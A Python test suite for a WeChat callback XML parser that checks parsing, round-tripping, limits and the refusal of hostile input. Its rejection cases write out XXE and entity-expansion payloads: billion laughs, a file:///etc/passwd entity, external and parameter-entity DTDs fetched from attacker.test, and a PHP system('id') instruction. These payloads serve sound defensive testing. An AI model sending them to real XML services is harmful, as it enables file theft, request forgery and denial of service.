import string
from time import perf_counter
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from huitouke.wechat.errors import BadXml, BodyTooLarge
from huitouke.wechat.xml import DEPTH_LIMIT, ELEMENT_LIMIT, XML_LIMIT_BYTES, build_xml, parse_xml

names = st.text(string.ascii_letters, min_size=1, max_size=12)
texts = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff") | st.sampled_from("\t\n\r]]>&<"),
    max_size=60,
)
filled_texts = texts.filter(bool)
trees: st.SearchStrategy[Any] = st.recursive(
    texts,
    lambda inner: (
        st.dictionaries(names, inner, min_size=1, max_size=4) | st.lists(filled_texts, min_size=2, max_size=3)
    ),
    max_leaves=12,
)


def test_a_kf_callback_becomes_a_plain_mapping() -> None:
    body = (
        b"<xml><ToUserName><![CDATA[ww12345678910]]></ToUserName><CreateTime>1348831860</CreateTime>"
        b"<MsgType><![CDATA[event]]></MsgType><Event><![CDATA[kf_msg_or_event]]></Event>"
        b"<Token><![CDATA[ENCApHxnGDNAVNY4AaSJKj4Tb5mwsEMzxhFmHVGcra996NR]]></Token>"
        b"<OpenKfId><![CDATA[wkxxxxxxx]]></OpenKfId></xml>"
    )

    assert parse_xml(body) == {
        "ToUserName": "ww12345678910",
        "CreateTime": "1348831860",
        "MsgType": "event",
        "Event": "kf_msg_or_event",
        "Token": "ENCApHxnGDNAVNY4AaSJKj4Tb5mwsEMzxhFmHVGcra996NR",
        "OpenKfId": "wkxxxxxxx",
    }


def test_repeated_names_become_a_list_and_nested_elements_a_mapping() -> None:
    body = b"<xml>\n <Auth>a</Auth>\n <Auth>b</Auth><Auth>c</Auth><Card> <Id>1</Id> </Card><Empty/></xml>"

    assert parse_xml(body) == {"Auth": ["a", "b", "c"], "Card": {"Id": "1"}, "Empty": ""}


@given(fields=st.dictionaries(names, trees, min_size=1, max_size=5))
def test_what_was_built_is_read_back(fields: dict[str, Any]) -> None:
    assert parse_xml(build_xml(fields), limit_bytes=10**7) == fields


markup = ["<xml>", "</xml>", "<a>", "</a>", "<b>", "</b>", "<a/>", "<!--x-->", "<a>1</a>", "<b><![CDATA[2]]></b>"]
characters = [
    "<![CDATA[",
    "]]>",
    "]",
    "&amp;",
    "\r\n",
    "\n",
    " ",
    "x",
    "中",
    "\x00",
    "\x0b",
    "\x7f",
    "\ufffe",
    "\ufeff",
]
pieces = st.sampled_from([*markup, *characters])
bodies = st.lists(pieces, max_size=8).map("".join)


@given(body=bodies | bodies.map(lambda inside: f"<xml>{inside}</xml>"))
def test_the_short_way_reads_what_the_parser_reads_or_leaves_it_to_it(body: str) -> None:
    """The same document behind a comment is one for the parser."""
    marked = body.replace("<xml>", "<xml><!---->", 1)
    assert outcome(body.encode()) == outcome(marked.encode() if marked != body else b"<!---->" + body.encode())


def outcome(body: bytes) -> object:
    try:
        return parse_xml(body)
    except BadXml:
        return BadXml


def test_characters_keep_their_meaning_also_inside_cdata() -> None:
    text = "a]]>b &amp; <c> \r\n 😀 ]]]]>>"

    assert parse_xml(build_xml({"Content": text})) == {"Content": text}


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\ufffe", "\ud800"])
def test_characters_that_xml_can_not_hold_are_refused_when_building(bad: str) -> None:
    with pytest.raises(ValueError):
        build_xml({"Content": bad})


@pytest.mark.parametrize("name", ["", "a b", "<a>", "1a", "a\n"])
def test_names_that_xml_can_not_hold_are_refused_when_building(name: str) -> None:
    with pytest.raises(ValueError):
        build_xml({name: "x"})


BILLION_LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><a>&lol3;</a></xml>"""


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(BILLION_LAUGHS, id="billion laughs"),
        pytest.param(b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 5000 + b'">]><xml><b>&a;</b></xml>', id="quadratic blowup"),
        pytest.param(b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><xml><a>&f;</a></xml>', id="local file"),
        pytest.param(b'<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd"><xml><a>1</a></xml>', id="external DTD"),
        pytest.param(b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.test/x">%p;]><xml/>', id="parameter entity"),
        pytest.param(b"<!DOCTYPE xml><xml><a>1</a></xml>", id="harmless DTD"),
        pytest.param(b"<xml><a>&undefined;</a></xml>", id="undefined entity"),
        pytest.param(b"<xml><?php system('id') ?><a>1</a></xml>", id="processing instruction"),
        pytest.param(b"<xml><a>1</b></xml>", id="wrong end tag"),
        pytest.param(b"<xml><a>1</a>", id="truncated"),
        pytest.param(b"<xml><a>1</a></xml><xml/>", id="two roots"),
        pytest.param(b"<xml>text</xml>", id="no children"),
        pytest.param(b"<xml>text<a>1</a></xml>", id="text beside elements"),
        pytest.param(b"<xml><a>\xff\xfe</a></xml>", id="not UTF-8"),
        pytest.param('<?xml version="1.0" encoding="utf-16"?><xml><a>1</a></xml>'.encode("utf-16"), id="UTF-16"),
        pytest.param(b"<xml><a>\x00</a></xml>", id="NUL"),
        pytest.param(b"", id="nothing"),
        pytest.param(b"{}", id="JSON"),
    ],
)
def test_whatever_a_callback_never_has_is_refused(body: bytes) -> None:
    with pytest.raises(BadXml):
        parse_xml(body)


def test_the_limits_are_kept_exactly() -> None:
    def nested(levels: int) -> bytes:
        return b"".join(b"<a>" for _ in range(levels)) + b"x" + b"".join(b"</a>" for _ in range(levels))

    def wide(elements: int) -> bytes:
        return b"<xml>" + b"<a/>" * (elements - 1) + b"</xml>"

    assert parse_xml(nested(DEPTH_LIMIT))
    assert parse_xml(wide(ELEMENT_LIMIT))
    with pytest.raises(BadXml):
        parse_xml(nested(DEPTH_LIMIT + 1))
    with pytest.raises(BadXml):
        parse_xml(wide(ELEMENT_LIMIT + 1))
    with pytest.raises(BodyTooLarge):
        parse_xml(b"<xml><a>" + b"x" * XML_LIMIT_BYTES + b"</a></xml>")


@given(noise=st.binary(max_size=300))
def test_noise_never_crashes(noise: bytes) -> None:
    with pytest.raises(BadXml):
        parse_xml(b"<xml>" + noise)


def test_the_largest_hostile_body_costs_milliseconds() -> None:
    hostile = b"<xml><a " + b"".join(b'a%d="&#65;" ' % number for number in range(4000)) + b"/></xml>"
    started = perf_counter()

    assert parse_xml(hostile) == {"a": ""}

    assert perf_counter() - started < 0.5
